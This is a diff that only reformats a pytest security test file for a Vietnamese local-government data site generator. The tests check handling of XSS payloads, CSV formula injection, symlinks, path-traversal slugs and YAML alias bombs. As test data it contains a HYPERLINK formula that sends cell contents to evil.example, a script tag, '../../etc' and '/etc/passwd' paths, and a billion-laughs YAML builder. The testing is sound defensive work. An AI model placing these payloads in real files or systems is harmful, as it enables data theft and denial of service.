@@ -4,9 +4,9 @@ from __future__ import annotations
 
 import csv
 import io
-import re
 import itertools
 import os
+import re
 from pathlib import Path
 
 import pytest
@@ -17,8 +17,13 @@ from tests.conftest import build
 from tests.oracle import read_csv
 from tests.pages import soup
 
-CORPUS = [line for line in (Path(__file__).parent / "fixtures" / "xss_payloads.txt")
-          .read_text(encoding="utf-8").splitlines() if line.strip()]
+CORPUS = [
+    line
+    for line in (Path(__file__).parent / "fixtures" / "xss_payloads.txt")
+    .read_text(encoding="utf-8")
+    .splitlines()
+    if line.strip()
+]
 
 
 def refused_at_input(text: str) -> bool:
@@ -33,10 +38,26 @@ def refused_at_input(text: str) -> bool:
 
 
 PAYLOADS = [p for p in CORPUS if not refused_at_input(p)]
-FREE_TEXT_METADATA = ("title", "legal_basis", "decision_number", "decision_issuer", "office", "notes",
-                      "standard", "period")
-FREE_TEXT_COLUMNS = ("Nội dung", "Họ tên chủ hộ", "Loại đất", "Tên công trình, dự án", "Địa điểm",
-                     "Kỳ báo cáo", "Thủ tục hành chính", "Lý do trễ hạn")
+FREE_TEXT_METADATA = (
+    "title",
+    "legal_basis",
+    "decision_number",
+    "decision_issuer",
+    "office",
+    "notes",
+    "standard",
+    "period",
+)
+FREE_TEXT_COLUMNS = (
+    "Nội dung",
+    "Họ tên chủ hộ",
+    "Loại đất",
+    "Tên công trình, dự án",
+    "Địa điểm",
+    "Kỳ báo cáo",
+    "Thủ tục hành chính",
+    "Lý do trễ hạn",
+)
 THEME_INLINE_SCRIPTS = ("__md_scope=new URL(", "var target=document.getElementById(location.hash")
 
 
@@ -51,11 +72,16 @@ def test_formula_payloads_are_refused_at_input_with_a_message():
     assert refused == ['=HYPERLINK("http://evil.example/?d="&A1,"Bấm")']
     with pytest.raises(TextProblem) as caught:
         check_text(refused[0])
-    assert (caught.value.code, caught.value.params) == ("text-excel-formula", {"what": "hàm HYPERLINK"})
+    assert (caught.value.code, caught.value.params) == (
+        "text-excel-formula",
+        {"what": "hàm HYPERLINK"},
+    )
 
 
 def first_commune(data: Path) -> Path:
-    return next(p.parent for p in sorted(data.rglob("unit.yaml")) if len(p.relative_to(data).parts) == 4)
+    return next(
+        p.parent for p in sorted(data.rglob("unit.yaml")) if len(p.relative_to(data).parts) == 4
+    )
 
 
 def seed_payloads(commune: Path) -> dict[Path, list[str]]:
@@ -72,7 +98,9 @@ def seed_payloads(commune: Path) -> dict[Path, list[str]]:
             entry[key] = next(payloads)
     unit["office"]["name"] = next(payloads)
     unit["office"]["address"] = next(payloads)
-    unit_file.write_text(yaml.safe_dump(unit, allow_unicode=True, sort_keys=False), encoding="utf-8")
+    unit_file.write_text(
+        yaml.safe_dump(unit, allow_unicode=True, sort_keys=False), encoding="utf-8"
+    )
     for meta_file in sorted(commune.glob("*/*/thong-tin.yaml")):
         folder = meta_file.parent
         meta = yaml.safe_load(meta_file.read_text(encoding="utf-8"))
@@ -81,11 +109,13 @@ def seed_payloads(commune: Path) -> dict[Path, list[str]]:
             if key in meta or key == "notes":
                 meta[key] = next(payloads)
                 placed[folder].append(meta[key])
-        meta_file.write_text(yaml.safe_dump(meta, allow_unicode=True, sort_keys=False), encoding="utf-8")
+        meta_file.write_text(
+            yaml.safe_dump(meta, allow_unicode=True, sort_keys=False), encoding="utf-8"
+        )
         for table in sorted(folder.glob("*.csv")):
             rows = read_csv(table)
             columns = [c for c in rows[0] if c in FREE_TEXT_COLUMNS]
-            for row, column in zip(rows, columns * 3):
+            for row, column in zip(rows, columns * 3, strict=False):
                 row[column] = next(payloads)
                 placed[folder].append(row[column])
             with table.open("w", encoding="utf-8", newline="") as handle:
@@ -99,7 +129,9 @@ def assert_nothing_active(page: Path) -> None:
     doc = soup(page)
     for script in doc.find_all("script"):
         if script.get("src"):
-            assert "_theme/assets/javascripts/" in script["src"] and not script["src"].startswith(("http", "//")), (page, script)
+            assert "_theme/assets/javascripts/" in script["src"] and not script["src"].startswith(
+                ("http", "//")
+            ), (page, script)
         elif script.get("type") != "application/json":
             assert (script.string or "").startswith(THEME_INLINE_SCRIPTS), (page, script)
     for tag in ("iframe", "object", "embed", "base", "frame", "applet"):
@@ -115,12 +147,16 @@ def assert_nothing_active(page: Path) -> None:
             assert not name.lower().startswith("on"), (page, element.name, name)
             text = " ".join(value) if isinstance(value, list) else str(value)
             if name in ("href", "src", "action", "formaction", "xlink:href", "data"):
-                assert not text.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (page, text)
+                assert not text.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (
+                    page,
+                    text,
+                )
 
 
 @pytest.fixture(scope="module")
 def payload_site(tmp_path_factory):
     import shutil
+
     from tests.conftest import SAMPLE_DATA
 
     root = tmp_path_factory.mktemp("xss")
@@ -148,11 +184,16 @@ def test_every_payload_shows_as_text_where_it_was_put(payload_site):
     site, unit, placed = payload_site
     shown = 0
     for folder, payloads in placed.items():
-        # A budget year's stages share a page: ngan-sach/<year>-<stage>/ is shown on ngan-sach/<year>/.
+        # A budget year's stages share a page: ngan-sach/<year>-<stage>/ is shown on
+        # ngan-sach/<year>/.
         shown_on = folder.name.split("-")[0] if folder.parent.name == "ngan-sach" else folder.name
         page = site / unit.url_path / folder.parent.name / shown_on / "index.html"
-        pages = [page, site / unit.url_path / "ho-ngheo" / f"danh-sach-{folder.name}" / "index.html"] if (
-            folder.parent.name == "ho-ngheo") else [page]  # the household list has a page of its own
+        # the household list has a page of its own
+        pages = (
+            [page, site / unit.url_path / "ho-ngheo" / f"danh-sach-{folder.name}" / "index.html"]
+            if (folder.parent.name == "ho-ngheo")
+            else [page]
+        )
         text = " ".join(" ".join(soup(p).find("article").get_text(" ").split()) for p in pages)
         for payload in payloads:
             assert " ".join(payload.split()) in text, (page, payload)
@@ -172,11 +213,21 @@ def test_downloads_neutralise_formula_cells(payload_site):
     site, unit, _ = payload_site
     cells = []
     for download in (site / unit.url_path).rglob("*.csv"):
-        cells += [c for row in csv.reader(io.StringIO(download.read_bytes()[3:].decode("utf-8"))) for c in row]
+        cells += [
+            c
+            for row in csv.reader(io.StringIO(download.read_bytes()[3:].decode("utf-8")))
+            for c in row
+        ]
     formulas = [c for c in cells if "HYPERLINK" in c or "cmd|" in c]
-    assert [c for c in formulas if c.startswith("'")]  # a payload that would start a cell is neutralised
-    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]  # no cell starts a formula
-    assert not [c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c)]  # only negative numbers
+    assert [
+        c for c in formulas if c.startswith("'")
+    ]  # a payload that would start a cell is neutralised
+    assert not [
+        c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
+    ]  # no cell starts a formula
+    assert not [
+        c for c in cells if c.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", c)
+    ]  # only negative numbers
 
 
 def test_payloads_in_identifiers_fail_with_clear_messages(data_copy):
@@ -190,12 +241,18 @@ def test_payloads_in_identifiers_fail_with_clear_messages(data_copy):
         writer.writerows(rows)
     problems = validate_tree(data_copy)
     hit = next(p for p in problems.errors if p.file.endswith(revenue.name) and p.row == 3)
-    assert (hit.column, hit.value, hit.code) == ("Thuộc mục", "<script>alert(1)</script>", "budget.parent-unknown")
+    assert (hit.column, hit.value, hit.code) == (
+        "Thuộc mục",
+        "<script>alert(1)</script>",
+        "budget.parent-unknown",
+    )
 
 
 @pytest.mark.parametrize("target", ["/etc/passwd", "outside"])
 def test_symlinked_data_file_is_refused(data_copy, tmp_path, target):
-    (data_copy.parent / "outside.csv").write_text("Họ tên chủ hộ,Thôn\nbí mật,T01\n", encoding="utf-8")
+    (data_copy.parent / "outside.csv").write_text(
+        "Họ tên chủ hộ,Thôn\nbí mật,T01\n", encoding="utf-8"
+    )
     commune = first_commune(data_copy)
     listing = sorted((commune / "ho-ngheo").glob("*/danh-sach.csv"))[0]
     listing.unlink()
@@ -220,16 +277,24 @@ def test_symlinked_unit_folder_outside_data_is_refused(data_copy, tmp_path):
     (outside / "unit.yaml").write_text('code: "99888"\ntype: xã\nname: Ngoài\n', encoding="utf-8")
     os.symlink(outside, data_copy / "tinh-binh-son" / "xa-ngoai")
     problems = validate_tree(data_copy)
-    assert any(p.code == "unit-folder-symlink" and p.file.endswith("xa-ngoai") for p in problems.errors)
+    assert any(
+        p.code == "unit-folder-symlink" and p.file.endswith("xa-ngoai") for p in problems.errors
+    )
 
 
 @pytest.mark.parametrize("slug", ["../../etc", "/tmp/x", "a/../../b", "XA-A"])
 def test_unit_slug_cannot_escape_the_output(data_copy, slug):
     commune = first_commune(data_copy)
     unit_file = commune / "unit.yaml"
-    unit_file.write_text(unit_file.read_text(encoding="utf-8") + f'slug: "{slug}"\n', encoding="utf-8")
+    unit_file.write_text(
+        unit_file.read_text(encoding="utf-8") + f'slug: "{slug}"\n', encoding="utf-8"
+    )
     problems = validate_tree(data_copy)
-    hit = next(p for p in problems.errors if p.file == f"{commune.relative_to(data_copy).as_posix()}/unit.yaml")
+    hit = next(
+        p
+        for p in problems.errors
+        if p.file == f"{commune.relative_to(data_copy).as_posix()}/unit.yaml"
+    )
     assert (hit.column, hit.value, hit.code) == ("slug (đường dẫn)", slug, "unit-slug-format")
 
 
@@ -238,7 +303,11 @@ def test_yaml_alias_bomb_and_huge_file_get_messages(data_copy):
     meta = sorted(commune.glob("ngan-sach/*/thong-tin.yaml"))[0]
     bomb = ["a: &a [" + ",".join(["x"] * 10) + "]"]
     for level in range(1, 12):
-        bomb.append(f"{chr(97 + level)}: &{chr(97 + level)} [" + ",".join([f"*{chr(96 + level)}"] * 10) + "]")
+        bomb.append(
+            f"{chr(97 + level)}: &{chr(97 + level)} ["
+            + ",".join([f"*{chr(96 + level)}"] * 10)
+            + "]"
+        )
     meta.write_text("\n".join(bomb) + "\n", encoding="utf-8")
     other = sorted(commune.glob("ho-ngheo/*/thong-tin.yaml"))[0]
     with other.open("w", encoding="utf-8") as handle:
